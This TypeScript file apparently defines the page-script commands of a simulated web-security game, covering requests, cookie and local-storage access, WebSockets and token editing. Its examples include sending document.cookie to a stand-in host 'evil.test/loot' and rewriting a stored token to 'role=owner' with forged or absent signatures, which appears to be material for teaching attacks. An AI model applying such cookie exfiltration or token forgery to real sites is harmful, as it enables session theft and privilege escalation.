import { resolve, type Verb, verb } from "./verb.ts";
import { forgeryOf } from "./verbs-attacker.ts";

/** What scripts of the active page do. */
export const PAGE_VERBS: readonly Verb[] = [
  verb(
    "page fetch <method:method> <to:address> [json <json:pairs>] [bearer <bearer:kept>] [basic <basic:login>] [credentials <credentials:credentials>] [headers <headers:pairs>]",
    "Send a request from a script",
    "page fetch GET /profile bearer localStorage.token",
    (world, { method, to, json, bearer, basic, credentials, headers }) => {
      world.requests.fetch(method, resolve(world, to), {
        ...(json && { json }),
        ...(bearer && { bearer }),
        ...(basic && { basic }),
        ...(credentials && { credentials }),
        ...(headers && { headers }),
      });
    },
  ),
  verb(
    "page keep token in <area:area>",
    "Keep the token of the last answer; memory is page memory",
    "page keep token in localStorage",
    (world, { area }) => world.page.keepToken(area),
  ),
  verb(
    "page read document.cookie",
    "Read the cookies from a script",
    "page read document.cookie",
    (world) => {
      world.page.readCookies();
    },
  ),
  verb(
    "page write document.cookie <line:text>",
    "Set a cookie from a script",
    'page write document.cookie "theme=dark; Path=/"',
    (world, { line }) => world.page.writeCookie(line),
  ),
  verb(
    "page send <loot:loot> to <to:address>",
    "Send what a script can read to another site",
    "page send document.cookie to https://evil.test/loot",
    (world, { loot, to }) => world.requests.send(loot, resolve(world, to)),
  ),
  verb("page connect <to:socket>", "Open a WebSocket from a script", "page connect /feed", (world, { to }) =>
    world.requests.connect(asSocket(resolve(world, to))),
  ),
  verb(
    "page read answer <name:field>",
    "Read a header of the last answer from a script",
    "page read answer Content-Type",
    (world, { name }) => world.requests.readAnswer(name),
  ),
  verb(
    "page read <kept:kept>",
    "Let a script read what the page has stored",
    "page read localStorage.token",
    (world, { kept: { area, key } }) => {
      world.page.readStorage(area, key);
    },
  ),
  verb(
    "page write <kept:kept> <value:text>",
    "Let a script store something",
    "page write localStorage.theme dark",
    (world, { kept: { area, key }, value }) => world.page.writeStorage(area, key, value),
  ),
  verb(
    "page change <kept:kept> <claims:pairs> [alg <alg:forged-alg>] [secret <secret:secret>] [key <key:forging-key>]",
    "Change what a kept token says, and sign it with something or with nothing",
    "page change localStorage.token role=owner",
    (world, { kept, ...args }) => world.page.changeToken(kept.area, kept.key, forgeryOf(world, args)),
  ),
  verb(
    "page remove <kept:kept>",
    "Let a script remove something",
    "page remove localStorage.token",
    (world, { kept: { area, key } }) => world.page.removeStorage(area, key),
  ),
];

/** Returns the WebSocket URL for a page's URL. */
const asSocket = (url: string): string => url.replace(/^http/, "ws");
